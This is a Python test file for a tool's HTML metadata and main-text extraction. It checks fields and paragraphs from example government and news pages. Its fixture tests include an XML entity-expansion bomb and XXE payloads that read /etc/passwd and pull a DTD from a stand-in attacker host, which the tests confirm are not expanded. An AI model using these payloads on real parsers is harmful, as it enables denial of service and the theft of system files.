"""HTML extraction: fields with evidence and main text of the three example pages, and the
pages that go wrong (entity bombs, empty pages, "Last, First" authors, site-name titles)."""

from __future__ import annotations

import time

import pytest

from policycite.capture.cues import is_salutation
from policycite.capture.document import Document
from policycite.capture.html import extract_html
from policycite.errors import InputError

from conftest import ROOT

EXAMPLES = ROOT / "examples" / "capture"


def _document(name: str, **kwargs: str) -> Document:
    text = (EXAMPLES / name).read_text(encoding="utf-8")
    page = extract_html(text, source=name, **kwargs)
    assert len(page.documents) == 1
    return page.documents[0]


def _values(document: Document, name: str) -> list[str]:
    return [e.value for e in document.fields.get(name, ())]


def _hows(document: Document, name: str) -> list[str]:
    return [e.how for e in document.fields.get(name, ())]


def _numbered(document: Document) -> list[str]:
    return [b.text for b in document.blocks if not b.heading]


def _headings(document: Document) -> list[str]:
    return [b.text for b in document.blocks if b.heading]


def _assert_no_chrome(document: Document, chrome: list[str]) -> None:
    for block in document.blocks:
        for text in chrome:
            assert text not in block.text, (text, block.text)


def _doc(html: str, **kwargs: str) -> Document:
    return extract_html(html, source="test.html", **kwargs).documents[0]


# --- press release -------------------------------------------------------------------------


def test_press_release_fields() -> None:
    doc = _document("press-release.html")
    title = "Veldoria opens €40 million Harbour Resilience Fund for small ports"
    assert _values(doc, "title") == [title]
    assert _hows(doc, "title") == ["meta citation_title"]
    assert _values(doc, "issuer") == ["Ministry of Coastal Affairs of Veldoria"]
    assert _hows(doc, "issuer") == ["JSON-LD NewsArticle.author (GovernmentOrganization)"]
    assert "author" not in doc.fields
    # Published 12 March, modified 19 March: the publication date wins everywhere.
    assert _values(doc, "issued") == ["2024-03-12"]
    assert _hows(doc, "issued") == ["meta citation_publication_date"]
    assert _values(doc, "site") == ["Ministry of Coastal Affairs"]
    assert _values(doc, "url") == [
        "https://www.coastal.gov.example/en/press-releases/2024/harbour-resilience-fund"
    ]
    assert _hows(doc, "url") == ["link rel=canonical"]
    assert _values(doc, "language") == ["en", "en-GB"]
    assert _hows(doc, "language") == ["<html lang>", "meta og:locale"]
    assert _values(doc, "kind") == ["press-release", "news-article", "report"]
    assert _hows(doc, "kind") == [
        "meta DC.type 'Text.PressRelease'",
        "JSON-LD @type NewsArticle",
        "meta citation_technical_report_number",
    ]
    assert not any(e.heuristic for items in doc.fields.values() for e in items)
    assert _values(doc, "number") == ["PR-2024-031"]
    assert (doc.value("description") or "").startswith("Small and medium-sized ports can apply")
    assert "speaker" not in doc.fields


def test_press_release_text() -> None:
    doc = _document("press-release.html")
    paragraphs = _numbered(doc)
    assert len(paragraphs) == 8
    assert paragraphs[0] == (
        "Small and medium-sized ports in Veldoria can apply from 2 April 2024 for grants from "
        "a new €40 million Harbour Resilience Fund, the Ministry of Coastal Affairs announced "
        "today."
    )
    assert paragraphs[-1] == (
        "Veldoria has 41 ports with regular commercial traffic. Twenty-nine of them handled "
        "fewer than two million tonnes of cargo in 2023 and are eligible for the fund."
    )
    assert _headings(doc) == ["Who can apply", "How the fund will be managed", "Notes to editors"]
    # The label above the title and the title itself are not paragraphs.
    assert doc.blocks[0].text == paragraphs[0]
    _assert_no_chrome(
        doc,
        [
            "Press release",
            "Harbour Resilience Fund for small ports",
            "PR-2024-031",
            "cookies",
            "Skip to main content",
            "Deutsch",
            "Français",
            "Ports and shipping",
            "Newsroom",
            "Share this page",
            "LinkedIn",
            "Last updated",
            "Media contact",
            "press@coastal",
            "Winter storms",
            "island ferry",
            "Privacy notice",
            "© 2024",
        ],
    )
    assert doc.paragraphs[-1].section == "Notes to editors"


def test_press_release_kind_cues_one_by_one() -> None:
    # Each press-release cue on its own: label, breadcrumb, URL path, og:site_name issuer.
    label = _doc("<html><body><p>Press release</p><h1>Fund opens</h1><p>Text.</p></body></html>")
    assert label.fields["kind"][0].how == "label 'Press release'"
    assert label.fields["kind"][0].heuristic
    crumb = _doc(
        '<html><head><meta property="og:site_name" content="Harbour Office"></head><body>'
        '<ol class="breadcrumb"><li><a href="/">Home</a></li><li><a href="/pr/">Press releases'
        "</a></li></ol><h1>Fund opens</h1><p>Text.</p></body></html>"
    )
    assert crumb.first("kind").value == "press-release"  # type: ignore[union-attr]
    assert crumb.fields["kind"][0].how == "breadcrumb 'Press releases'"
    assert _values(crumb, "issuer") == ["Harbour Office"]
    assert crumb.fields["issuer"][0].heuristic
    by_url = _doc(
        "<html><body><h1>Fund opens</h1><p>Text.</p></body></html>",
        url="https://harbour.example/en/news-releases/2024/fund",
    )
    assert by_url.fields["kind"][0].how == "URL path /news-releases/"
    assert _values(by_url, "url") == ["https://harbour.example/en/news-releases/2024/fund"]
    assert _hows(by_url, "url") == ["URL given to capture"]
    # A sidebar heading "Press releases" (plural, not a label) says nothing.
    sidebar = _doc("<html><body><h2>Press releases</h2><h1>Fund</h1><p>Text.</p></body></html>")
    assert _values(sidebar, "kind") == ["webpage"]


# --- speech (table layout) -----------------------------------------------------------------


def test_speech_fields() -> None:
    doc = _document("speech.html")
    heading = (
        "Speech by Minister Irena Valk at the Regional Conference on Inland Waterways "
        "in Port Halden"
    )
    assert _values(doc, "title") == [heading]
    assert _hows(doc, "title") == ["<title> without ' | Site' suffix"]
    assert _values(doc, "site") == ["Ministry of Foreign Affairs of Kestria"]
    assert _values(doc, "kind") == ["speech"]
    assert _hows(doc, "kind") == ["wording: heading starts 'Speech by'"]
    assert _values(doc, "speaker") == ["Irena Valk"]
    assert _values(doc, "event-title") == ["Regional Conference on Inland Waterways"]
    assert _values(doc, "event-place") == ["Port Halden"]
    # The sidebar's later headlines (22.05–19.06.2023) are not the date.
    assert _values(doc, "issued") == ["2023-05-14"]
    assert _hows(doc, "issued") == ["date line below the title"]
    assert all(
        e.heuristic for items in doc.fields.values() for e in items if e.how != ("meta description")
    )
    # No lang attribute: the language is read from the text (and marked as guessed).
    assert _values(doc, "language") == ["en"]
    for absent in ("author", "issuer", "url", "number", "event-date"):
        assert absent not in doc.fields, absent


def test_speech_text() -> None:
    doc = _document("speech.html")
    paragraphs = _numbered(doc)
    assert len(paragraphs) == 11
    assert _headings(doc) == []
    assert paragraphs[0] == "Dear Chair,"
    assert paragraphs[1] == "Excellencies, ladies and gentlemen,"
    assert is_salutation(paragraphs[0])
    assert is_salutation(paragraphs[1])
    assert paragraphs[-1] == "Thank you."
    # No-break spaces survive extraction: they are copy-paste evidence.
    assert "by\xa0a\xa0third" in paragraphs[3]
    assert "at\xa0Vessen" in paragraphs[3]
    _assert_no_chrome(
        doc,
        [
            "Speech by Minister",
            "14.05.2023",
            "Port Halden |",
            "New York",
            "Tokyo",
            "Add to favourites",
            "Consular services",
            "Regional partners",
            "Kestrian Foundation",
            "Latest headlines",
            "Vessen lock after repairs",
            "19.06.2023",
            "Print",
            "Add comment",
            "Leave a comment",
            "Your name",
            "Halden Web Studio",
            "Subscribe",
        ],
    )


def test_speech_with_url() -> None:
    url = "https://mfa.kestria.example/speeches/2023/valk-waterways.html"
    doc = _document("speech.html", url=url)
    assert _values(doc, "url") == [url]
    assert _hows(doc, "url") == ["URL given to capture"]
    assert _values(doc, "kind") == ["speech"]


# --- news article --------------------------------------------------------------------------


def test_news_article_fields() -> None:
    doc = _document("news-article.html")
    assert _values(doc, "title") == ["Port cities race to adapt as storm surges grow"]
    assert _hows(doc, "title") == ["JSON-LD NewsArticle.headline"]
    assert _values(doc, "author") == ["Marta Lindqvist", "Oskar Feld"]
    assert _hows(doc, "author") == ["JSON-LD NewsArticle.author (Person)"] * 2
    # The publisher of a news article is the outlet, not an issuing body.
    assert "issuer" not in doc.fields
    assert _values(doc, "site") == ["The Meridian Post"]
    assert _hows(doc, "site") == ["meta og:site_name"]
    assert _values(doc, "issued") == ["2024-04-03"]
    assert _values(doc, "url") == [
        "https://meridianpost.example/2024/04/03/port-cities-race-to-adapt-storm-surges/"
    ]
    assert _values(doc, "language") == ["en-US"]
    assert _values(doc, "kind") == ["news-article"]
    assert _hows(doc, "kind") == ["JSON-LD @type NewsArticle"]
    assert not any(e.heuristic for items in doc.fields.values() for e in items)


def test_news_article_text() -> None:
    doc = _document("news-article.html")
    paragraphs = _numbered(doc)
    assert len(paragraphs) == 9
    assert paragraphs[0].startswith("From Lessa to Port Halden, harbour towns along the northern")
    assert paragraphs[0].endswith("closed small ports for weeks at a time.")
    assert paragraphs[-1] == (
        "The ministry says it will publish the first list of funded projects in September."
    )
    assert paragraphs[5].startswith("“The first round of grants")  # the block quote
    assert _headings(doc) == ["Engineers warn of a backlog", "Insurers are watching"]
    _assert_no_chrome(
        doc,
        [
            "Share on",
            "Share this",
            "Email this article",
            "WhatsApp",
            "Marta Lindqvist",
            "April 3, 2024",
            "Photo: Jan Ostrow",
            "Tagged",
            "Morning Tide",
            "Sign up",
            "Related stories",
            "Island ferries cancelled",
            "Most read",
            "Fishing fleet ties up",
            "Harbourwatcher",
            "Who pays for the maintenance",
            "Leave a Reply",
            "Post Comment",
            "Support our journalism",
            "uses cookies",
            "Politics",
            "Podcasts",
            "All rights reserved",
        ],
    )


# --- hostile and degenerate pages ----------------------------------------------------------

_BOMB = """<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE html [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
  <!ENTITY xxe SYSTEM "file:///etc/passwd">
  <!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">
]>
<html lang="en"><head><title>Notice &lol9; | Harbour Office</title>
<meta name="description" content="&xxe;"></head>
<body><h1>Notice &lol9;</h1>
<p>The harbour office reports &lol9; and &xxe; in this paragraph.</p>
<p>A second paragraph with an ordinary entity: caf&eacute;.</p>
<p>A third paragraph that closes the notice.</p>
</body></html>
"""


def test_entity_bomb_and_external_entity_are_not_expanded() -> None:
    start = time.perf_counter()
    page = extract_html(_BOMB, source="bomb.html")
    assert time.perf_counter() - start < 0.5
    doc = page.documents[0]
    everything = doc.text + repr(dict(doc.fields))
    assert "lollol" not in everything
    assert "root:" not in everything
    assert "/bin/" not in everything
    assert len(everything) < 2_000
    assert doc.value("title") == "Notice &lol9;"
    assert "café" in doc.text
    assert "]>" not in doc.text


def test_external_entity_in_html_doctype_only() -> None:
    html = (
        '<!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<html><body><h1>Fund</h1><p>&xxe;</p><p>Text.</p></body></html>"
    )
    doc = _doc(html)
    assert "root:" not in doc.text


@pytest.mark.parametrize("text", ["", "   \n", "\ufeff"])
def test_empty_page_is_an_input_error(text: str) -> None:
    with pytest.raises(InputError, match=r"^empty\.html: the page is empty"):
        extract_html(text, source="empty.html")


def test_page_without_text() -> None:
    doc = _doc("<html><head></head><body></body></html>")
    assert doc.blocks == ()
    assert _values(doc, "kind") == ["webpage"]
    assert doc.fields["kind"][0].heuristic
    assert set(doc.fields) == {"kind"}


def test_page_with_only_a_title() -> None:
    doc = _doc("<html><head><title>Annual report 2023 | Lakeside Institute</title></head></html>")
    assert _values(doc, "title") == ["Annual report 2023"]
    assert _hows(doc, "title") == ["<title> without ' | Site' suffix"]
    assert _values(doc, "site") == ["Lakeside Institute"]
    assert doc.blocks == ()


def test_title_suffix_with_known_site_name() -> None:
    html = (
        '<html><head><meta property="og:site_name" content="Northern Energy Office">'
        "<title>Northern Energy Office - Grid levy cut for households</title>"
        '<meta property="og:title" content="Grid levy cut for households | Northern Energy '
        'Office"></head><body><p>Text.</p></body></html>'
    )
    doc = _doc(html)
    assert _values(doc, "title") == ["Grid levy cut for households"]
    assert _hows(doc, "title") == ["meta og:title without ' | Site' suffix"]


def test_site_name_is_never_the_title() -> None:
    html = (
        '<html><head><meta property="og:site_name" content="BMEX">'
        '<meta property="og:title" content="BMEX"><title>BMEX</title></head>'
        "<body><header><h1>BMEX</h1></header><article><h1>Levy cut for households</h1>"
        "<p>Text.</p></article></body></html>"
    )
    doc = _doc(html)
    assert _values(doc, "title") == ["Levy cut for households"]
    assert _hows(doc, "title") == ["<h1>"]


def test_last_first_authors_kept_whole() -> None:
    html = (
        "<html><head>"
        '<meta name="citation_author" content="Petrova, Anna">'
        '<meta name="citation_author" content="Li, Wei">'
        '<meta name="citation_title" content="Water data in the Arctic">'
        "</head><body><p>Text.</p></body></html>"
    )
    doc = _doc(html)
    assert _values(doc, "author") == ["Petrova, Anna", "Li, Wei"]
    assert _hows(doc, "author") == ["meta citation_author"] * 2
    dc = _doc('<html><head><meta name="DC.creator" content="Petrova, Anna; Li, Wei"></head></html>')
    assert _values(dc, "author") == ["Petrova, Anna", "Li, Wei"]
    meta = _doc('<html><head><meta name="author" content="Petrova, Anna"></head></html>')
    assert _values(meta, "author") == ["Petrova, Anna"]
    paired = _doc('<html><head><meta name="author" content="Petrova, Anna, Li, Wei"></head></html>')
    assert _values(paired, "author") == ["Petrova, Anna", "Li, Wei"]
    listed = _doc(
        '<html><head><meta name="author" content="Anna Petrova, Wei Li and Jon Berg"></head></html>'
    )
    assert _values(listed, "author") == ["Anna Petrova", "Wei Li", "Jon Berg"]


def test_organisation_author_is_an_issuer() -> None:
    html = (
        '<html><head><meta name="DC.creator" content="Lakeside Institute for Water Policy">'
        '<meta name="DC.title" content="Statement on the closure of the Vessen lock">'
        "</head><body><p>The institute regrets the closure.</p></body></html>"
    )
    doc = _doc(html)
    assert "author" not in doc.fields
    assert _values(doc, "issuer") == ["Lakeside Institute for Water Policy"]
    assert _values(doc, "kind") == ["statement"]


def test_relative_canonical_and_language_case() -> None:
    html = (
        '<html lang="EN_gb"><head><link rel="canonical" href="/en/news/fund">'
        '<meta property="og:locale" content="en_GB"></head><body><p>Text.</p></body></html>'
    )
    doc = _doc(html, url="https://harbour.example/en/news/fund?utm_source=x")
    assert _values(doc, "url") == [
        "https://harbour.example/en/news/fund",
        "https://harbour.example/en/news/fund?utm_source=x",
    ]
    assert _values(doc, "language") == ["en-GB"]


def test_broken_json_ld_is_skipped() -> None:
    html = (
        '<html><head><script type="application/ld+json">{"@type": "NewsArticle", </script>'
        '<script type="application/ld+json">{"@type": "Report", "name": "Lock survey 2023",'
        ' "datePublished": "2023-11"}</script></head><body><p>Text.</p></body></html>'
    )
    doc = _doc(html)
    assert _values(doc, "title") == ["Lock survey 2023"]
    assert _values(doc, "issued") == ["2023-11"]
    assert _values(doc, "kind") == ["report"]


def test_line_breaks_and_list_items() -> None:
    html = (
        "<html><body><article><h1>Fund</h1>"
        "<p>First line<br>same paragraph.</p>"
        "<p>Paragraph one.<br><br>Paragraph two.</p>"
        "<ul><li>Item one is here.</li><li>Item two is here.</li></ul>"
        "<p>&nbsp;</p><p>Last paragraph of the notice.</p></article></body></html>"
    )
    doc = _doc(html)
    assert _numbered(doc) == [
        "First line same paragraph.",
        "Paragraph one.",
        "Paragraph two.",
        "Item one is here.",
        "Item two is here.",
        "Last paragraph of the notice.",
    ]


# --- the lean extraction path (issue 17): same results as the straightforward one -----------


@pytest.mark.parametrize("name", ["press-release.html", "speech.html", "news-article.html"])
@pytest.mark.parametrize("tables", [False, True])
def test_trafilatura_xml_is_extracts_main(name: str, tables: bool) -> None:
    # policycite asks trafilatura for its XML without the content fingerprint extract()
    # adds to <doc>; the <main> it reads must be extract()'s, byte for byte.
    import trafilatura
    from lxml import etree

    from policycite.capture.html import trafilatura_xml
    from policycite.safeparse import parse_html, xml_parser

    text = (ROOT / "examples" / "capture" / name).read_text(encoding="utf-8")
    ours = trafilatura_xml(parse_html(text, name), tables=tables)
    theirs = trafilatura.extract(
        parse_html(text, name),
        output_format="xml",
        include_tables=tables,
        include_comments=False,
        include_images=False,
        include_links=False,
        include_formatting=False,
        deduplicate=False,
    )
    assert ours is not None and theirs is not None

    def main(xml: str) -> bytes:
        found = etree.fromstring(xml.encode(), parser=xml_parser()).find("main")
        assert found is not None and len(found)
        return etree.tostring(found)

    assert main(ours) == main(theirs)
    assert "fingerprint=" in theirs and "fingerprint=" not in ours


def test_unicode_spaces_in_texts_and_tails_survive() -> None:
    # Spaces are protected by one XPath per kind of space: text, tail and nested runs.
    page = (
        "<html><head><title>T</title></head><body><article>"
        "<p>One\u00a0two <b>three\u2009four</b>\u202ffive six seven eight nine ten.</p>"
        "<p>Second paragraph with enough words\u00a0to count as text here.</p>"
        "<p>Third paragraph, also long enough to be kept by the extractor.</p>"
        "</article></body></html>"
    )
    texts = [b.text for b in extract_html(page).documents[0].blocks]
    assert "One\u00a0two three\u2009four\u202ffive six seven eight nine ten." in texts
    assert "Second paragraph with enough words\u00a0to count as text here." in texts


def test_page_holding_a_placeholder_character_is_left_alone() -> None:
    # A page already holding a placeholder (U+12000) is not rewritten: the swap could not
    # be undone. Others get their Unicode spaces swapped in texts and tails alike.
    from lxml import etree

    from policycite.capture.html import _protect_spaces
    from policycite.safeparse import parse_html

    marked = parse_html("<p>Sign \U00012000 here\u00a0<b>x</b>\u00a0</p>", "t")
    before = etree.tostring(marked, encoding="unicode")
    assert _protect_spaces(marked) is False
    assert etree.tostring(marked, encoding="unicode") == before

    plain = parse_html("<p>a\u00a0b<b>c\u2009d</b>\u00a0e</p>", "t")
    assert _protect_spaces(plain) is True
    assert "\u00a0" not in plain.text_content() and "\u2009" not in plain.text_content()
    assert plain.text_content() == "a\U00012000bc\U0001200bd\U00012000e"


def test_parsed_elements_are_plain_html_elements() -> None:
    """The capture parser picks element classes in C: one HtmlElement class for every tag.

    (lxml.html's default lookup is a Python call per element touched, and gives forms and
    their fields classes of their own; the tree's text must read the same either way.)
    """
    import lxml.html

    from policycite.safeparse import parse_html

    root = parse_html(
        "<html><body><form><label>Name <input value=x></label><select><option>A</select>"
        "<textarea>T</textarea></form><p>Text</p></body></html>",
        "<test>",
    )
    assert {type(el) for el in root.iter()} == {lxml.html.HtmlElement}
    assert root.find(".//form").text_content() == "Name AT"
    assert root.body.text_content() == "Name ATText"
